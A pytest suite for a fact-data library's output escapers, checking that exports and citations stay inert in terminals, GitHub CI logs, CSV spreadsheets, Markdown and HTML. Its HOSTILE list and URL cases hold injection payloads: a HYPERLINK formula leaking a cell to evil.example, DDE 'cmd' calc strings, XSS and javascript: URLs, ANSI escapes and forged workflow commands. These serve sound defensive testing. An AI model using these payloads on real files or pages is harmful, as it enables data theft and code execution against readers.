"""What leaves the program is safe for whoever reads it: terminal, CI log, spreadsheet,
Markdown, HTML page; and any string, lone surrogates included, can be written."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import ddfacts as d
from ddfacts._escape import (
    csv_cell,
    csv_original,
    for_terminal,
    github_data,
    github_property,
    json_text,
    markdown_text,
    markdown_url,
    utf8_text,
)
from ddfacts.cite import cite
from ddfacts.cli import main
from ddfacts.cli._base import write_out, write_records
from ddfacts.export import csv_tables, export, to_claimreview, to_webannotation, write_csv

from ._timing import assert_near_linear

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "examples" / "demo" / "demo.facts.json"
CLAIM = "claim:demo/summons-count-embassy"
REVIEW = "review:demo/summons-count-embassy"
ACTOR = "actor:demo-ilse-varro"

#: Strings that attack one destination or another.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "x\n::add-mask::secret\n",
    "x\r\n::warning file=a.json::y",
    "%0A::error::x%0D%25",
    "<b>bold</b><img src=x onerror=alert(1)>&amp;",
    "[click](javascript:alert(1)) ![i](x) *em* _u_ `code` ~~s~~ | a | b |",
    "# heading\n> quote\n- item\n1. one",
    "</script><script>alert(1)</script><!--",
    "line\u2028separator\u2029paragraph",
    "lone \ud800 surrogate \udcff here",
    "bidi \u202eevil\u202c and \u2066isolate\u2069",
    "nul\x00 del\x7f c1\x85\x9b",
]

#: Characters no terminal or log line may receive from data.
_UNSAFE_FOR_TERMINAL = re.compile(
    "[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)


def _terminal_safe(text: str) -> bool:
    """Only newlines separate lines; nothing else that moves the cursor or colours it."""
    return _UNSAFE_FOR_TERMINAL.search(text.replace("\n", "")) is None


def _facts(text: str = HOSTILE[0], *, url: str | None = "javascript:alert(1)") -> d.FactSet:
    """The demo, with *text* in a claim, an actor's name, a review and the source's title."""
    records = []
    for record in d.load(DEMO):
        if record.id == CLAIM:
            record = attrs.evolve(record, text=text)
        elif record.id == ACTOR:
            record = attrs.evolve(record, name=text)
        elif record.id == REVIEW:
            # A ClaimReview needs the fact-check article's url (export refuses one without).
            record = attrs.evolve(record, explanation=text, url="https://factcheck.example/r/1")
        elif isinstance(record, d.Source):
            record = attrs.evolve(record, title=text, url=url)
        records.append(record)
    return d.FactSet(records)


def _fact_file(tmp_path: Path, text: str, **changes: Any) -> str:
    path = tmp_path / "hostile.json"
    d.dump(_facts(text, **changes), path)
    return str(path)


# Text without surrogates, which a file can hold; with controls and every
# character the escapers treat specially.
_SPECIALS = st.sampled_from(
    list("\n\r\t\x1b\x00\x7f\x85%:,'=+-@<>&[]()`*_|~\\#!\u2028\u2029\u202e")
)
_TEXT = st.text(st.characters(blacklist_categories=("Cs",)) | _SPECIALS)
# Any str at all, lone surrogates included.
_ANY = st.text(st.characters() | _SPECIALS)


class TestUtf8Text:
    """utf8_text: every writer's last step."""

    @given(_ANY)
    def test_always_encodes(self, text: str) -> None:
        """Any str becomes text UTF-8 can carry; text without surrogates is unchanged."""
        safe = utf8_text(text)
        safe.encode("utf-8")
        if not re.search("[\ud800-\udfff]", text):
            assert safe is text

    def test_pairs_join_and_lone_ones_are_replaced(self) -> None:
        """A surrogate pair is the character it encodes; a lone one is U+FFFD."""
        assert utf8_text("\ud83d\udc1f \ud800x\udcff") == "\U0001f41f \ufffdx\ufffd"


class TestTerminal:
    """for_terminal: a value printed for people is one line with no control characters."""

    @given(_ANY)
    def test_nothing_unsafe_survives(self, text: str) -> None:
        """No control, separator, bidi override or surrogate; not even a newline."""
        shown = for_terminal(text)
        assert _UNSAFE_FOR_TERMINAL.search(shown) is None
        shown.encode("utf-8")

    @given(st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"))))
    def test_safe_text_unchanged(self, text: str) -> None:
        """Text with nothing to escape (bidi controls aside) is printed as it is."""
        if not re.search("[\u202a-\u202e\u2066-\u2069]", text):
            assert for_terminal(text) == text

    def test_visible_escapes(self) -> None:
        """The escapes are Python's notation, so a person sees what was there."""
        assert for_terminal("a\x1b[31m\nb\t\u202e\udcff") == "a\\x1b[31m\\nb\\t\\u202e\\udcff"


def _github_decode(text: str) -> str:
    return re.sub("%(25|0D|0A|3A|2C)", lambda m: chr(int(m.group(1), 16)), text)


class TestGithub:
    """github_data and github_property: workflow commands as GitHub's syntax requires."""

    @given(_ANY)
    def test_one_line_no_controls(self, text: str) -> None:
        """The command stays on its log line; properties hold no ``:`` or ``,``."""
        for escaped in (github_data(text), github_property(text)):
            assert _UNSAFE_FOR_TERMINAL.search(escaped) is None
        assert not {":", ","} & set(github_property(text))

    @given(st.text(st.characters(blacklist_categories=("Cc", "Cs")) | st.sampled_from("\r\n%:,")))
    def test_reversible(self, text: str) -> None:
        """The runner's percent-decoding gives the text back."""
        if not re.search("[\u2028\u2029\u202a-\u202e\u2066-\u2069]", text):
            assert _github_decode(github_data(text)) == text
            assert _github_decode(github_property(text)) == text


class TestCsvCell:
    """csv_cell: a spreadsheet shows the text, never runs it; csv_original undoes it."""

    @given(_ANY)
    def test_never_a_formula(self, text: str) -> None:
        """A cell starts with a formula character only behind the protecting quote."""
        cell = csv_cell(text)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        cell.encode("utf-8")

    @given(_TEXT)
    def test_round_trip(self, text: str) -> None:
        """Dropping the documented leading quote gives the value back, through the csv module."""
        buffer = io.StringIO()
        csv.writer(buffer).writerow([csv_cell(text)])
        (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
        assert csv_original(row[0]) == text


def _markdown_original(markdown: str) -> str:
    """What CommonMark shows for escaped text: each backslash escape of punctuation undone."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown)


def _unescaped(markdown: str, chars: str) -> list[str]:
    """Characters of *chars* in *markdown* not behind a backslash escape."""
    found = []
    for match in re.finditer(r"\\.|.", markdown, re.DOTALL):
        if len(match.group()) == 1 and match.group() in chars:
            found.append(match.group())
    return found


class TestMarkdown:
    """markdown_text and markdown_url: text renders as written, only web URLs link."""

    @given(_ANY)
    def test_no_markup(self, text: str) -> None:
        """No unescaped HTML, entity, link, emphasis or code character; one line, no controls."""
        markdown = markdown_text(text)
        assert _unescaped(markdown, "<>&[]`*_|~") == []
        assert _UNSAFE_FOR_TERMINAL.search(markdown) is None

    @given(st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp"))))
    def test_reversible(self, text: str) -> None:
        """A CommonMark reader gets the text back by undoing backslash escapes."""
        if not re.search("[\u202a-\u202e\u2066-\u2069]", text):
            assert _markdown_original(markdown_text(text)) == text

    @pytest.mark.parametrize(
        "url",
        [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "\x01javascript:alert(1)",
            "java\nscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:x",
            "//evil.example/",
            "/relative",
            "https://",
            "http:// evil.example",
        ],
    )
    def test_only_web_urls_link(self, url: str) -> None:
        """Anything but an http(s) URL with a host is not a link target."""
        assert markdown_url(url) is None

    def test_web_url_cannot_end_the_link(self) -> None:
        """Characters that would close the link or add a title are percent-encoded."""
        url = "https://example.org/a)\"c<d>'#:~:text=x"
        assert markdown_url(url) == "https://example.org/a%29%22c%3Cd%3E%27#:~:text=x"
        assert markdown_url("https://example.org/a b") is None


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | _TEXT,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(_TEXT, children, max_size=4),
    max_leaves=12,
)


class TestJsonForHtml:
    """json_text: JSON that cannot end the ``<script>`` block it is embedded in."""

    @given(_JSON)
    def test_same_data_nothing_html(self, value: Any) -> None:
        """json.loads gives the value back; no <, >, &, U+2028 or U+2029 in the text."""
        for indent in (None, 2):
            text = json_text(value, indent=indent)
            assert not {"<", ">", "&", "\u2028", "\u2029"} & set(text)
            assert json.loads(text) == value

    @given(_ANY)
    def test_any_string_encodes(self, text: str) -> None:
        """A lone surrogate becomes U+FFFD: the text is always valid UTF-8."""
        json_text({"x": text}).encode("utf-8")


@pytest.mark.parametrize("text", HOSTILE)
class TestLibraryOutputs:
    """Every export and citation, each with every hostile string."""

    def test_csv_cells_are_text_and_round_trip(self, text: str) -> None:
        """No cell starts a formula; the claim's text comes back after dropping the quote."""
        tables = csv_tables(_facts(text))
        for name, table in tables.items():
            table.encode("utf-8")
            for row in csv.reader(io.StringIO(table, newline="")):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), name
        claims = list(csv.DictReader(io.StringIO(tables["claims.csv"], newline="")))
        (row,) = [row for row in claims if row["id"] == CLAIM]
        assert csv_original(row["text"]) == utf8_text(text)

    @pytest.mark.parametrize("fmt", ["claimreview", "webannotation", "prov-json"])
    def test_json_ld_embeds_in_html(self, text: str, fmt: str) -> None:
        """The JSON-LD has no <, > or &, and holds the same data as the records."""
        facts = _facts(text)
        out = export(facts, fmt)
        assert out is not None
        out.encode("utf-8")
        assert not {"<", ">", "&", "\u2028", "\u2029"} & set(out)
        if fmt == "claimreview" and "\ud800" not in text:
            assert json.loads(out) == to_claimreview(facts)
        if fmt == "webannotation" and "\ud800" not in text:
            assert json.loads(out) == to_webannotation(facts)

    def test_fever_lines(self, text: str) -> None:
        """FEVER JSON Lines: one line per row, whatever the claim's text."""
        out = export(_facts(text), "fever")
        assert out is not None
        assert all(json.loads(line) for line in out.splitlines())

    def test_cite_text(self, text: str) -> None:
        """The text citation is for a terminal: newlines only between its own lines."""
        rendered = cite(_facts(text), CLAIM).render_text()
        assert _terminal_safe(rendered)
        assert not any(line.startswith("::") for line in rendered.splitlines())
        rendered.encode("utf-8")

    def test_cite_markdown(self, text: str) -> None:
        """No HTML, no javascript: link; the hostile text renders as written."""
        rendered = cite(_facts(text), CLAIM).render_markdown()
        rendered.encode("utf-8")
        body = re.sub("^>( |$)", "", rendered, flags=re.MULTILINE).replace("**", "")
        assert _unescaped(body, "<>&[]`|~") == []
        links = re.findall(r"(?<!\\)\]\(([^)]*)\)", rendered)
        assert all(link.startswith(("http://", "https://")) for link in links)
        claim_line = rendered.splitlines()[0]
        shown = _markdown_original(claim_line[2:-2])
        if not _UNSAFE_FOR_TERMINAL.search(text):
            assert shown == text


class TestMarkdownLinks:
    """Only an http(s) source URL becomes a link in Markdown."""

    def test_https_link(self) -> None:
        """An https URL is the link target, escaped so it cannot end the link."""
        facts = _facts("fine", url="https://example.org/a(b)")
        rendered = cite(facts, CLAIM).render_markdown()
        assert "[Open at the quote](https://example.org/a%28b%29#:~:text=" in rendered

    def test_javascript_is_text(self) -> None:
        """A javascript: URL is shown as text, not made a link."""
        rendered = cite(_facts("fine"), CLAIM).render_markdown()
        assert "[Open at the quote]" not in rendered
        assert "javascript:alert(1)#:\\~:text=" in rendered


class TestCli:
    """The commands, on files holding hostile strings."""

    @pytest.mark.parametrize("text", [t for t in HOSTILE if "\ud800" not in t])
    @pytest.mark.parametrize(
        "args",
        [
            ["cite", "{file}", CLAIM],
            ["cite", "{file}", CLAIM, "--format", "markdown"],
            ["query", "{file}"],
            ["query", "{file}", "--format", "json"],
            ["export", "{file}", "--to", "claimreview"],
        ],
    )
    def test_stdout(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, args: list[str]
    ) -> None:
        """Exit 0; text for people has no control characters and no line of ours forged."""
        file = _fact_file(tmp_path, text)
        assert main([arg.format(file=file) for arg in args]) == 0
        out = capsys.readouterr().out
        out.encode("utf-8")
        if "json" in args or "export" in args:
            json.loads(out)
        if "export" in args:
            assert "</" not in out
        if "json" not in args and "export" not in args:
            assert _terminal_safe(out)
            assert not any(line.startswith("::") for line in out.splitlines())

    @pytest.mark.parametrize("fmt", ["text", "github"])
    def test_validate_member_name(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
    ) -> None:
        """A member named ``ESC[31m\\n::add-mask::x\\n`` forges no workflow command."""
        document = json.loads(DEMO.read_text(encoding="utf-8"))
        document["records"][0]["\x1b[31m\n::add-mask::x\n%0A"] = 1
        path = tmp_path / "key.json"
        path.write_text(json.dumps(document), encoding="utf-8")
        assert main(["validate", str(path), "--format", fmt]) == 1
        out = capsys.readouterr().out
        assert _terminal_safe(out)
        lines = out.splitlines()
        if fmt == "github":
            assert len(lines) == 1
            assert lines[0].startswith("::error file=")
            assert "%250A" in lines[0]  # the data's own %0A is not decoded into a newline
        else:
            assert not any(line.startswith("::") for line in lines)

    def test_file_name_on_stderr(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """An error naming a hostile file name prints it escaped."""
        path = tmp_path / "evil\x1b[31m\n::warning::x.json"
        path.write_text("{", encoding="utf-8")
        assert main(["query", str(path)]) == 2
        err = capsys.readouterr().err
        assert _terminal_safe(err)
        assert err.count("\n") == 1


class TestCsvFolder:
    """The CSV export writes its folder all or nothing."""

    def test_failure_leaves_previous_export(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A failure while writing the tables leaves every earlier table as it was."""
        folder = tmp_path / "tables"
        write_csv(d.load(DEMO), folder)
        (folder / "notes.txt").write_text("mine", encoding="utf-8")
        before = {path.name: path.read_bytes() for path in folder.iterdir()}
        from ddfacts.export import _swap

        real_write: Callable[[Path, str, Path], None] = _swap._write
        calls: list[Path] = []

        def failing(path: Path, text: str, old: Path) -> None:
            calls.append(path)
            if len(calls) == 7:
                raise OSError(28, "No space left on device")
            real_write(path, text, old)

        monkeypatch.setattr(_swap, "_write", failing)
        with pytest.raises(OSError):
            write_csv(_facts(HOSTILE[0]), folder)
        assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
        assert sorted(path.name for path in tmp_path.iterdir()) == ["tables"]

    def test_success_replaces_tables_keeps_other_files(self, tmp_path: Path) -> None:
        """A new export replaces the tables; a file it does not write is kept."""
        folder = tmp_path / "tables"
        write_csv(d.load(DEMO), folder)
        (folder / "notes.txt").write_text("mine", encoding="utf-8")
        written = write_csv(_facts(HOSTILE[0]), folder)
        assert all(path.parent == folder for path in written)
        assert (folder / "notes.txt").read_text(encoding="utf-8") == "mine"
        assert "'=HYPERLINK" in (folder / "claims.csv").read_text(encoding="utf-8")
        assert sorted(path.name for path in tmp_path.iterdir()) == ["tables"]

    def test_not_a_folder(self, tmp_path: Path) -> None:
        """A file where the folder should be is an OSError, and is left alone."""
        path = tmp_path / "file"
        path.write_text("x", encoding="utf-8")
        with pytest.raises(OSError):
            write_csv(d.load(DEMO), path)
        assert path.read_text(encoding="utf-8") == "x"

    def test_numbers_stay_numbers(self) -> None:
        """A negative number is written bare; a text that looks like one is protected."""
        facts = _facts("-5")
        claim = facts.get(CLAIM)
        assert isinstance(claim, d.Claim)
        quantity = d.Quantity(amount=-5, lower=-5, upper=-5, qualifier="exact")
        records = [r for r in facts if r.id != CLAIM] + [attrs.evolve(claim, value=quantity)]
        rows = csv.DictReader(io.StringIO(csv_tables(d.FactSet(records))["claims.csv"]))
        (row,) = [row for row in rows if row["id"] == CLAIM]
        assert row["value.quantity.amount"] == "-5"
        assert row["text"] == "'-5"


class TestSurrogatesLeave:
    """Records built in Python may hold lone surrogates; every writer still writes."""

    def test_cli_writers(self, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
        """write_out and write_records give valid UTF-8, U+FFFD for each lone surrogate."""
        facts = _facts("lone \ud800 and \udcff")
        write_records(facts, None)
        write_out("x\udcff\n", None)
        captured = capsysbinary.readouterr()
        text = captured.out.decode("utf-8")
        assert "lone \ufffd and \ufffd" in text
        assert b"U+FFFD" in captured.err
        out = tmp_path / "out.jsonl"
        write_records(facts, str(out))
        claim = d.load(out).get(CLAIM)
        assert isinstance(claim, d.Claim)
        assert claim.text == "lone \ufffd and \ufffd"

    def test_cli_commands(
        self, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
    ) -> None:
        """query, cite and export print records holding lone surrogates, exit 0."""
        facts = _facts("lone \ud800 and \udcff")
        from ddfacts.cli import _base

        monkeypatch.setattr(_base, "load_files", lambda files: [facts])
        for args in (
            ["query", "x", "--format", "json"],
            ["query", "x"],
            ["cite", "x", CLAIM],
            ["cite", "x", CLAIM, "--format", "markdown"],
            ["cite", "x", CLAIM, "--format", "json"],
            ["export", "x", "--to", "claimreview"],
            ["export", "x", "--to", "fever"],
        ):
            assert main(args) == 0, args
            capsysbinary.readouterr().out.decode("utf-8")


def test_hostile_strings_cover_every_category() -> None:
    """The list attacks each destination: formula starts, controls, HTML, separators, surrogates."""
    starts = {text[0] for text in HOSTILE}
    assert {"=", "+", "-", "@", "\t", "\r", "'"} <= starts
    categories = {unicodedata.category(char) for text in HOSTILE for char in text}
    assert {"Cc", "Cs", "Zl", "Zp", "Cf"} <= categories


@pytest.mark.parametrize(
    "escape",
    [for_terminal, github_property, markdown_text, csv_cell, utf8_text, json_text],
    ids=lambda func: func.__name__,
)
def test_escapers_linear(escape: Callable[[str], object]) -> None:
    """Each escaper's time grows linearly with its input (10x the text, at most 20x the time)."""

    def make(units: int) -> Callable[[], object]:
        text = "<a href='x'>&amp;\x1b[31m\n=cmd|\ud800 " * units
        return lambda: escape(text)

    assert_near_linear(make, 20_000)
